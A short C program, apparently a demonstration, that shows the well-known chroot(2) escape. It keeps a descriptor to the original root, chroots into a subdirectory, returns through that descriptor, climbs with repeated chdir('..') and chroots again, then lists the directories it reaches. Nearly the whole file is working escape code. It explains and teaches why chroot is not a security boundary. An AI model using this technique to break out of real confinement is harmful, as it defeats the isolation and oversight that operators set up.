/*
 * What a process with CAP_SYS_CHROOT can do to get out of a root that was entered with chroot(2): hold the root open, enter a
 * directory below it, go back by the descriptor and climb. Prints what it then finds at "/" and above its working directory.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

static void list(const char *path)
{
	DIR *directory = opendir(path);
	struct dirent *entry;

	printf("%s:", path);
	while (directory && (entry = readdir(directory)))
		printf(" %s", entry->d_name);
	printf("\n");
}

int main(void)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);

	mkdir("/below", 0755);
	if (root < 0 || chroot("/below") != 0 || fchdir(root) != 0) {
		perror("escape");
		return 1;
	}
	for (int step = 0; step < 64; step++)
		if (chdir("..") != 0)
			perror("chdir");
	if (chroot(".") != 0)
		perror("chroot");
	list(".");
	list("/");
	list("/..");
	return 0;
}
